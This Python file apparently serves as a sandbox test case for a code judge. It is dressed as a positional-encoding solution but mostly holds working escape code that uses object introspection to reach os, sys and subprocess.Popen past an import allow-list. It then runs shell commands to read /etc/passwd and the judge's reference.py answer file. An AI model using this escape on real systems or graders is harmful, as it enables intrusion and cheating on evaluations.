"""Attack (runtime error): escapes the import allow-list without any import statement or
__import__ call, through object introspection: ().__class__.__base__.__subclasses__()
yields os._wrap_close (whose __init__.__globals__ is the os module), subprocess.Popen
(the warm interpreter has it loaded) and the import machinery's BuiltinImporter.  With
them it runs /bin/sh -c "cat /etc/passwd", /usr/bin/cat on the judge's reference.py,
and opens the reference and /etc/passwd directly.  The modules come and /bin/sh runs
(the allow-list is a convenience, not the boundary), but the processes it starts are
inside the same sandbox: uid 65534, no_new_privs, the seccomp filter, the same
filesystem.  On the process backend that has no /etc and no bundle; in a container,
/etc is the sandbox image's own and the image holds no bundle.  The reference is never
read, and it raises with what it got and what failed."""
# harm: import_allowlist_escape
import numpy as np

_REFERENCES = ("/work/main/problems/sinusoidal-pe/reference.py", "/opt/judge/problems/sinusoidal-pe/reference.py")


def _escape():
    got, failed = [], []
    classes = ().__class__.__base__.__subclasses__()
    by_name = {c.__name__: c for c in classes}
    os_mod = None  # the os module's globals: open, read, system, execv...
    wrap = by_name.get("_wrap_close")
    if wrap is not None:
        os_mod = wrap.__init__.__globals__
        got.append("os via os._wrap_close")
    loader = by_name.get("BuiltinImporter")
    sys_mod = loader.load_module("sys") if loader is not None else None
    if sys_mod is not None:
        got.append("sys via BuiltinImporter")
    popen = by_name.get("Popen")
    if popen is None and sys_mod is not None:
        try:
            popen = sys_mod.modules["importlib"].import_module("subprocess").Popen
            got.append("subprocess via sys.modules['importlib']")
        except Exception as exc:  # noqa: BLE001
            failed.append("import subprocess: %s" % type(exc).__name__)
    else:
        got.append("Popen among the subclasses")
    if popen is not None:
        for argv in (["/bin/sh", "-c", "cat /etc/passwd"], ["/usr/bin/cat", "/etc/passwd", *_REFERENCES]):
            try:
                proc = popen(argv, stdout=-1, stderr=-1)
                out, err = proc.communicate(timeout=2)
                print("RAN", argv, proc.returncode, out[:500], err[:300], flush=True)
                if out:
                    got.append("output of %s" % argv[0])
                else:
                    failed.append("%s: exit %s, %s" % (argv[0], proc.returncode, err[:120]))
            except Exception as exc:  # noqa: BLE001
                failed.append("%s: %s" % (argv[0], type(exc).__name__))
    if os_mod is not None:
        for path in _REFERENCES + ("/etc/passwd",):
            try:
                fd = os_mod["open"](path, os_mod["O_RDONLY"])
                print("READ", path, os_mod["read"](fd, 200), flush=True)
                got.append("read " + path)
            except OSError as exc:
                failed.append("open %s: %s" % (path, type(exc).__name__))
    raise RuntimeError("got: %s; failed: %s" % (", ".join(got), "; ".join(failed)))


def sinusoidal_pe(max_len, d_model, base=10000.0):
    _escape()
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    _escape()
    return np.zeros(np.shape(x))
